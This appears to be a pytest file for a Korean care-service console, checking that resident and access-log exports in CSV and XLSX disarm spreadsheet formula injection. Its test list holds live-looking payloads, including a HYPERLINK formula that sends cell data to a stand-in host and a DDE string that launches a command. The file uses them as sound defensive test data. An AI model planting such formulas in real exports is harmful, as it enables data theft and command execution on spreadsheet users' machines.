"""Every export (CSV and XLSX) is read back: no cell can run as a formula in a spreadsheet."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import httpx
import openpyxl
import pytest

from care import access_log
from console import exports
from storage.db import Database
from storage.models import AccessLog
from tests import factories
from tests.console.conftest import World, signed_in

# What a resident's record or a log line could hold, typed by a person or by an attacker.
ATTACKS = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?"&A1,"클릭")',
    "+82-10-1234-5678",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
]
HARMLESS = ["박순자", "마포구 월드컵로 1", "1+1=2", "a=b", " =1"]


def test_inert_prefixes_every_formula_start_and_leaves_the_rest() -> None:
    for text in ATTACKS:
        assert exports.inert(text) == "'" + text, text
    for text in HARMLESS:
        assert exports.inert(text) == text, text
    assert exports.inert(None) == ""
    assert exports.inert(-5) == -5  # a number is a number, never a formula
    assert exports.inert(1942) == 1942


def _csv_cells(r: httpx.Response) -> list[list[str]]:
    assert r.status_code == 200, r.text[:300]
    assert r.headers["content-type"].startswith("text/csv")
    text = r.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def _xlsx_cells(r: httpx.Response) -> list[list[object]]:
    assert r.status_code == 200, r.text[:300]
    assert r.headers["content-type"] == exports.XLSX_TYPE
    assert re.search(r'filename="[\w-]+\.xlsx"', r.headers["content-disposition"])
    book = openpyxl.load_workbook(io.BytesIO(r.content))
    sheet = book.active
    assert sheet is not None
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)  # no cell is a formula
    return [[c.value for c in row] for row in sheet.iter_rows()]


def _column(rows: list[list[object]], name: str) -> list[object]:
    index = rows[0].index(name)
    return [row[index] for row in rows[1:]]


def _assert_inert(values: list[object], attacks: list[str]) -> None:
    # XML (inside XLSX) reads a carriage return back as a line feed: compare them as one.
    texts = [v.replace("\r", "\n") for v in values if isinstance(v, str)]
    for text in (a.replace("\r", "\n") for a in attacks):
        assert "'" + text in texts, (text, texts)
        assert text not in texts, text
    for v in texts:
        assert not v.startswith(exports.TRIGGERS), v


@pytest.fixture
async def hostile(db: Database, world: World) -> list[int]:
    """Residents whose name and address start like a formula (as typed in by a careless or hostile hand)."""
    ids = []
    async with db.transaction() as s:
        for i, text in enumerate(ATTACKS):
            r = await factories.make_resident(s, world.mapo, name=text, address=text, phone=f"+8210555{i:05d}")
            assert r.id is not None
            ids.append(r.id)
    return ids


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
async def test_residents_export_read_back_has_no_live_formula(
    client: httpx.AsyncClient, hostile: list[int], fmt: str
) -> None:
    token = await signed_in(client, "mapo")
    r = await client.post(
        "/residents/export", data={"csrf_token": token, "q": "", "format": fmt, "reason": "월간 방문 계획"}
    )
    rows = _csv_cells(r) if fmt == "csv" else _xlsx_cells(r)
    _assert_inert(_column(rows, "이름"), ATTACKS)
    _assert_inert(_column(rows, "주소"), ATTACKS)
    assert "박순자" in _column(rows, "이름")  # ordinary names are as they were
    assert "김말순" not in _column(rows, "이름")  # and the other district stays out


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
async def test_access_log_export_read_back_has_no_live_formula(
    client: httpx.AsyncClient, db: Database, world: World, fmt: str
) -> None:
    async with db.transaction() as s:
        for text in ATTACKS:
            s.add(AccessLog(username=text, ip=text, action="resident_view", detail=text))
    token = await signed_in(client, "admin")
    r = await client.post("/admin/access-log/export", data={"csrf_token": token, "format": fmt, "reason": "분기 점검"})
    rows = _csv_cells(r) if fmt == "csv" else _xlsx_cells(r)
    assert rows[0] == ["시각", "운영자", "IP", "이용자 번호", "행위", "표시한 이용자 수", "사유", "내용"]
    for name in ("운영자", "IP", "내용"):
        _assert_inert(_column(rows, name), ATTACKS)
    # The action is shown by its Korean name, as on the access-log page.
    assert access_log.action_label("resident_view") in _column(rows, "행위")
    assert "resident_view" not in _column(rows, "행위")


@pytest.mark.parametrize("path", ["/residents/export", "/admin/access-log/export"])
async def test_an_export_without_a_reason_is_refused_kindly(
    client: httpx.AsyncClient, world: World, hostile: list[int], path: str
) -> None:
    token = await signed_in(client, "admin")
    r = await client.post(path, data={"csrf_token": token, "q": "", "format": "csv", "reason": " "})
    assert r.status_code == 400
    assert not r.headers["content-type"].startswith("text/csv")


async def test_an_unknown_export_format_is_a_kind_400(client: httpx.AsyncClient, world: World) -> None:
    token = await signed_in(client, "mapo")
    r = await client.post("/residents/export", data={"csrf_token": token, "format": "exe"})
    assert r.status_code == 400 and "파일 형식" in r.text


def test_no_other_module_writes_csv_or_xlsx() -> None:
    """Every export goes through console/exports.py: nothing else may build a spreadsheet.

    The one exception is the district directory workbook (care/workbook.py), a format that is
    imported back and so cannot take exports.py's leading apostrophe; it types every text cell
    as text instead (tests/care/test_workbook.py checks a formula-looking name stays text)."""
    root = Path(__file__).resolve().parents[2]
    # The workbook's page and command only name the .xlsx they hand over; care/workbook.py writes it.
    allowed = {
        root / p for p in ("console/exports.py", "care/workbook.py", "console/routes/workbook.py", "dolbom/cli.py")
    }
    pattern = re.compile(r"^\s*(import csv|from csv |import openpyxl|from openpyxl)|text/csv|\.xlsx", re.M)
    offenders = []
    for package in ("console", "care", "storage", "bot", "jobs", "dolbom"):
        for path in (root / package).rglob("*.py"):
            if path in allowed or "migrations" in path.parts:
                continue
            if pattern.search(path.read_text(encoding="utf-8")):
                offenders.append(str(path.relative_to(root)))
    assert offenders == []
